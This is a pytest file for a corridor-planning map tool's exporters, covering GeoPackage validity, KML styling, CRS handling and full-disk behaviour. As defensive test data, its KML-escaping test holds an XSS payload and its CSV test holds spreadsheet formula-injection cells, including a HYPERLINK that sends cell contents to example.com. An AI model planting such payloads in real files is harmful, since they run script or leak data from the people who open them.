"""Exported files as the tools planners use open them: GDAL's command-line ``ogrinfo``
(Debian gdal-bin, independent of pyogrio's bundled GDAL), GDAL's GeoPackage validator,
LibreOffice for CSV; CGCS2000 output re-imported; a full disk leaving the old file intact.
"""

from __future__ import annotations

import csv
import json
import re
import shutil
import subprocess
import sys
import xml.etree.ElementTree as ET
import zipfile
from pathlib import Path

import pytest

from corridor_map.atlas.model import load_atlas
from corridor_map.cli.main import main
from corridor_map.outputs import export
from corridor_map.outputs.common import ExportError, select_features
from corridor_map.outputs.crs import resolve_crs
from corridor_map.outputs.rows import feature_rows

needs_ogrinfo = pytest.mark.skipif(shutil.which("ogrinfo") is None, reason="gdal-bin not installed")
_VALIDATOR = Path("/usr/lib/python3/dist-packages/osgeo_utils/samples/validate_gpkg.py")
_KML = "{http://www.opengis.net/kml/2.2}"
SUFFIX = {"geojson": ".geojson", "gpkg": ".gpkg", "kml": ".kml", "csv": ".csv", "shp": ".zip"}


def _ogrinfo(target: str) -> dict[str, int]:
    """Layer name → feature count, as ``ogrinfo -ro -so -al`` reports them."""
    out = subprocess.run(
        ["ogrinfo", "-ro", "-so", "-al", target], capture_output=True, text=True, timeout=120
    )
    assert out.returncode == 0, out.stderr
    names = re.findall(r"^Layer name: (.+)$", out.stdout, re.M)
    counts = [int(n) for n in re.findall(r"^Feature Count: (\d+)$", out.stdout, re.M)]
    assert len(names) == len(counts), out.stdout[:2000]
    return dict(zip(names, counts, strict=True))


def _features():
    atlas = load_atlas()
    return atlas, select_features(atlas, None)


@needs_ogrinfo
@pytest.mark.parametrize("fmt", sorted(SUFFIX))
def test_every_format_opens_in_ogrinfo_with_every_feature(tmp_path, fmt):
    _, wanted = _features()
    path = export.write_features(tmp_path / f"all{SUFFIX[fmt]}")
    if fmt == "shp":
        members = zipfile.ZipFile(path).namelist()
        assert {"points.shp", "lines.shp", "polygons.shp", "unlocated.dbf", "texts.csv"} <= set(
            members
        )
        counts: dict[str, int] = {}
        for member in ("points.shp", "lines.shp", "polygons.shp", "unlocated.dbf"):
            counts |= _ogrinfo(f"/vsizip/{path}/{member}")
    else:
        counts = _ogrinfo(str(path))
    assert sum(counts.values()) == len(wanted)
    if fmt == "kml":  # the id survives GDAL's LIBKML driver (QGIS dropped it before)
        listing = subprocess.run(
            ["ogrinfo", "-ro", "-al", "-q", str(path)], capture_output=True, text=True
        ).stdout
        ids = set(re.findall(r"^\s+id \(String\) = (\S+)$", listing, re.M))
        assert ids == {f.id for f in wanted}
    if fmt in {"gpkg", "shp"}:
        located = [f for f in wanted if f.geometry is not None]
        assert counts["unlocated"] == len(wanted) - len(located)
        kinds = {"Point": "points", "LineString": "lines", "Polygon": "polygons"}
        for f in located:
            kinds[f.geometry.geom_type.removeprefix("Multi")]  # one of the three
        for layer in ("points", "lines", "polygons"):
            assert counts[layer] == sum(
                1 for f in located if kinds[f.geometry.geom_type.removeprefix("Multi")] == layer
            )


@needs_ogrinfo
def test_geopackage_declares_1_2_and_passes_gdal_validator(tmp_path):
    import sqlite3

    path = export.write_features(tmp_path / "all.gpkg")
    with sqlite3.connect(path) as db:
        assert db.execute("PRAGMA user_version").fetchone()[0] == 10200  # GeoPackage 1.2
        types = dict(db.execute("SELECT table_name, geometry_type_name FROM gpkg_geometry_columns"))
        assert types == {
            "points": "MULTIPOINT",
            "lines": "MULTILINESTRING",
            "polygons": "MULTIPOLYGON",
        }
        kinds = dict(db.execute("SELECT table_name, data_type FROM gpkg_contents"))
        assert kinds["unlocated"] == "attributes"
        within = [w for (w,) in db.execute("SELECT within FROM unlocated") if w]
        assert within and all(" " in w for w in within)  # id and name of the holder
    if not _VALIDATOR.exists():
        pytest.skip("GDAL's validate_gpkg.py (python3-gdal) not installed")
    out = subprocess.run(
        ["/usr/bin/python3", str(_VALIDATOR), str(path)], capture_output=True, text=True
    )
    assert out.returncode == 0, out.stdout + out.stderr


def test_kml_styles_follow_the_screen_and_keep_ids(tmp_path):
    from corridor_map.outputs.kml import kml_colour
    from corridor_map.webmap.style import feature_style

    atlas = load_atlas()
    path = export.write_features(tmp_path / "tz.kml", scope="taizhou-bay")
    root = ET.parse(path).getroot()
    styles = {s.get("id"): s for s in root.iter(f"{_KML}Style")}
    placemarks = {p.get("id"): p for p in root.iter(f"{_KML}Placemark")}
    feature = atlas.get("taizhou-central-core")
    style = feature_style({**feature.properties, "id": feature.id})
    mark = placemarks[feature.id]
    used = styles[mark.find(f"{_KML}styleUrl").text.lstrip("#")]
    fill = used.find(f"{_KML}PolyStyle/{_KML}color").text
    assert fill == kml_colour(style["fillColor"], style["fillOpacity"])
    assert int(fill[:2], 16) < 255  # translucent: nested zones stay visible
    line = used.find(f"{_KML}LineStyle/{_KML}color").text
    assert line[2:] == kml_colour(style["color"])[2:]
    data = {d.get("name"): d.text for d in mark.iter(f"{_KML}SimpleData")}
    assert data["id"] == feature.id and data["name_zh"] == feature.name_zh
    assert mark.find(f"{_KML}name").text == feature.name_zh
    # A schematic feature (dashed on screen) is told apart: a fainter outline.
    schematic = next(
        f for f in atlas.by_corridor("taizhou-bay") if feature_style(f.properties).get("dashArray")
    )
    faint = styles[placemarks[schematic.id].find(f"{_KML}styleUrl").text.lstrip("#")]
    assert int(faint.find(f"{_KML}LineStyle/{_KML}color").text[:2], 16) < 255


def test_kml_description_is_escaped(tmp_path):
    hostile = '<script>alert(1)</script><img src=x onerror="alert(2)">'
    point = {"type": "Point", "coordinates": [121.3, 28.3]}
    path = export.write_geometry(tmp_path / "x.kml", point, "sketch", {"name_zh": hostile})
    raw = path.read_text(encoding="utf-8")
    assert "<script" not in raw and "<img" not in raw
    mark = next(ET.parse(path).getroot().iter(f"{_KML}Placemark"))
    # Google Earth renders the description as HTML: the text holds entities, not tags.
    description = mark.find(f"{_KML}description").text
    assert "&lt;script&gt;" in description and "<script" not in description


def _libreoffice_formulas(csv_path: Path, tmp_path: Path) -> list[str]:
    """Open a CSV in LibreOffice Calc (headless) and return the formulas it found."""
    profile = tmp_path / "lo-profile"
    out = subprocess.run(
        [
            "soffice",
            f"-env:UserInstallation=file://{profile}",
            "--headless",
            "--infilter=CSV:44,34,76,1",
            "--convert-to",
            "fods",
            "--outdir",
            str(tmp_path / "lo"),
            str(csv_path),
        ],
        capture_output=True,
        text=True,
        timeout=240,
    )
    converted = tmp_path / "lo" / (csv_path.stem + ".fods")
    assert converted.exists(), out.stdout + out.stderr
    return re.findall(r'table:formula="([^"]*)"', converted.read_text(encoding="utf-8"))


@pytest.mark.slow
@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice not installed")
def test_csv_cells_a_spreadsheet_would_run_stay_text_in_libreoffice(tmp_path):
    cells = {
        "name_zh": '=HYPERLINK("http://example.com/?"&A1,"点此")',
        "plus": "+1+2",
        "minus": "-3+4",
        "at": "@SUM(1,2)",
        "tab": "\t=1+1",
    }
    point = {"type": "Point", "coordinates": [121.3, 28.3]}
    path = export.write_geometry(tmp_path / "cells.csv", point, "sketch", cells)
    with path.open(encoding="utf-8-sig", newline="") as handle:
        row = next(csv.DictReader(handle))
    for key, value in cells.items():
        assert row[key] == "'" + value
    assert _libreoffice_formulas(path, tmp_path) == []
    # The check can fail: the same cells written raw open as formulas.
    raw = tmp_path / "raw.csv"
    raw.write_text('name\n"=HYPERLINK(""http://x"",""y"")"\n', encoding="utf-8")
    assert len(_libreoffice_formulas(raw, tmp_path)) == 1


def _run_limited(args: list[str], limit: int) -> subprocess.CompletedProcess[str]:
    """Run the CLI with files limited to ``limit`` bytes: writes past it fail (EFBIG), as
    on a full disk."""
    code = (
        "import resource, signal, sys\n"
        "signal.signal(signal.SIGXFSZ, signal.SIG_IGN)\n"
        f"resource.setrlimit(resource.RLIMIT_FSIZE, ({limit}, {limit}))\n"
        "from corridor_map.cli.main import main\n"
        f"sys.exit(main({args!r}))\n"
    )
    return subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=300)


@pytest.mark.slow
@pytest.mark.parametrize(
    ("name", "args"),
    [
        ("plan.geojson", ["export", "features"]),
        ("plan.gpkg", ["export", "features"]),
        ("plan.kml", ["export", "features"]),
        ("plan.csv", ["export", "features"]),
        ("plan.zip", ["export", "features"]),
        ("map.pdf", ["print", "--scope", "wenling-lakes"]),
        ("map.png", ["print", "--scope", "wenling-lakes"]),
        ("brief.pdf", ["brief", "taizhou-central-core"]),
    ],
)
def test_full_disk_keeps_the_good_file_and_says_so_in_one_line(tmp_path, name, args):
    out = tmp_path / name
    assert main([*args, "--out", str(out)]) == 0
    good = out.read_bytes()
    assert len(good) > 20_000
    # Fonts are cached (the test session's cache folder) by the good run; the next write
    # fails half-way.
    result = _run_limited([*args, "--out", str(out)], 16_000)
    assert result.returncode == 2, result.stderr
    assert result.stderr.count("\n") == 1 and "Traceback" not in result.stderr, result.stderr
    assert name in result.stderr
    assert "wrote" not in result.stdout
    assert out.read_bytes() == good
    assert sorted(p.name for p in tmp_path.iterdir()) == [name]


def test_out_names_too_long_are_one_line(tmp_path, capsys):
    long = tmp_path / ("长" * 90 + ".geojson")  # 270 + 8 bytes
    assert main(["export", "features", "--scope", "wenling-lakes", "--out", str(long)]) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "file name too long" in err
    # A name at the limit is fine: the temporary file has a short name of its own.
    fits = tmp_path / ("a" * (255 - len(".geojson")) + ".geojson")
    assert main(["export", "features", "--scope", "wenling-lakes", "--out", str(fits)]) == 0
    assert fits.exists()


def test_crs_choices():
    atlas, _ = _features()
    lakes = [f.geometry for f in atlas.by_corridor("wenling-lakes")]
    assert resolve_crs(None).epsg == 4326
    assert resolve_crs("cgcs2000").epsg == 4490
    auto = resolve_crs("auto", lakes)
    assert auto.epsg == 4549 and "CM 120E" in auto.name  # Wenling: 121.4°E, zone 40
    assert resolve_crs("EPSG:4528").projected  # zone 40 with the zone number
    with pytest.raises(ExportError, match="unsupported --crs"):
        resolve_crs("EPSG:3857")
    with pytest.raises(ExportError, match="longitude/latitude only"):
        export.write_features("x.kml", "wenling-lakes", crs="EPSG:4549")


def _measure_file(path: Path) -> tuple[dict[str, float], str]:
    out = subprocess.run(
        [sys.executable, "-m", "corridor_map.cli.main", "measure", "--file", str(path), "--json"],
        capture_output=True,
        text=True,
        timeout=300,
    )
    assert out.returncode == 0, out.stderr
    data = json.loads(out.stdout)
    areas = {str(i.get("id") or i.get("name")): float(i["area_km2"]) for i in data["features"]}
    return areas, " ".join(data.get("warnings") or []) + out.stderr


@pytest.mark.slow
@pytest.mark.parametrize("suffix", [".gpkg", ".geojson"])
def test_cgcs2000_gauss_kruger_export_measures_the_same_on_import(tmp_path, suffix):
    atlas, wanted = _features()
    path = tmp_path / f"gk{suffix}"
    assert main(["export", "features", "--crs", "EPSG:4549", "--out", str(path)]) == 0
    if suffix == ".geojson":
        data = json.loads(path.read_text(encoding="utf-8"))
        assert data["crs"]["properties"]["name"].endswith("EPSG::4549")
        assert "EPSG:4549" in data["description"]
    areas, _ = _measure_file(path)
    expected = {r["id"]: r["area_km2"] for r in feature_rows(atlas, wanted) if r["area_km2"]}
    assert set(expected) <= set(areas)
    for ident, area in expected.items():
        assert areas[ident] == pytest.approx(area, rel=1e-3), ident


@pytest.mark.slow
def test_our_own_export_raises_no_coordinate_alarm(tmp_path):
    path = tmp_path / "gk.gpkg"
    args = ["export", "features", "--scope", "wenling-lakes", "--crs", "EPSG:4549"]
    assert main([*args, "--out", str(path)]) == 0
    _, warnings = _measure_file(path)
    assert "BD-09" not in warnings and "GCJ-02" not in warnings, warnings


def test_csv_in_a_gauss_kruger_zone_has_metres(tmp_path):
    path = export.write_features(tmp_path / "gk.csv", "wenling-lakes", crs="auto")
    with path.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle))
    located = [r for r in rows if r["x"]]
    assert located and all(r["crs"] == "EPSG:4549" for r in rows)
    assert all(300_000 < float(r["x"]) < 700_000 for r in located)  # no zone prefix
    assert "lon" not in rows[0]


def test_route_export_gives_the_target_figures_with_method_and_assumptions(tmp_path):
    from corridor_map.travel.targets import evaluate_targets

    out = tmp_path / "r.csv"
    assert main(["export", "route", "jiulong-lake", "longmen-lake", "--out", str(out)]) == 0
    with out.open(encoding="utf-8-sig", newline="") as handle:
        row = next(csv.DictReader(handle))
    target = evaluate_targets(load_atlas(), target_ids=["wenling-tailong-15min"])[0]
    worst = target.worst_case
    assert float(row["minutes"]) == round(worst["minutes"], 1)
    assert float(row["km"]) == round(worst["km"], 1)
    assert row["target"] == target.id and row["origin_access"] == "boundary"
    assert "Dijkstra" in row["method"] and "40 km/h" in row["assumptions"]
    assert "length_km" not in row  # no unexplained twin of km


def test_measures_only_where_they_apply(tmp_path):
    sketch = {
        "type": "Polygon",
        "coordinates": [[[121.3, 28.3], [121.4, 28.3], [121.4, 28.4], [121.3, 28.3]]],
    }
    path = export.write_geometry(tmp_path / "s.csv", sketch, "sketch")
    with path.open(encoding="utf-8-sig", newline="") as handle:
        row = next(csv.DictReader(handle))
    assert float(row["perimeter_km"]) > 30 and float(row["area_km2"]) > 40
    assert row["length_km"] == ""
    _, wanted = _features()
    path = export.write_features(tmp_path / "all.csv")
    with path.open(encoding="utf-8-sig", newline="") as handle:
        rows = {r["id"]: r for r in csv.DictReader(handle)}
    unlocated = [f for f in wanted if f.geometry is None]
    assert unlocated
    for f in unlocated:
        row = rows[f.id]
        assert row["area_km2"] == row["length_km"] == row["perimeter_km"] == ""
    for row in rows.values():
        for part in filter(None, row["district"].split(", ")):
            assert not part.isdigit(), part  # a spreadsheet keeps it as text


def test_app_downloads_take_a_crs(tmp_path):
    import sqlite3

    items = {d.key: d for d in export.downloads("wenling-lakes", "zh", crs="EPSG:4549")}
    path = tmp_path / "d.gpkg"
    path.write_bytes(items["features-gpkg"].make())
    with sqlite3.connect(path) as db:
        assert {s for (s,) in db.execute("SELECT srs_id FROM gpkg_geometry_columns")} == {4549}
    assert items["features-kml"].make().startswith(b"<?xml")  # KML stays lon/lat


@pytest.mark.parametrize(
    "args",
    [
        ["export", "features", "--scope", "wenling-lakes", "--out", "/proc/plan.gpkg"],
        ["print", "--scope", "wenling-lakes", "--out", "/proc/map.pdf"],
    ],
)
def test_a_folder_that_takes_no_files_is_one_line(args, capsys):
    # procfs refuses new files even to root: a read-only folder for any user.
    assert main(args) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "cannot write" in err and "Traceback" not in err
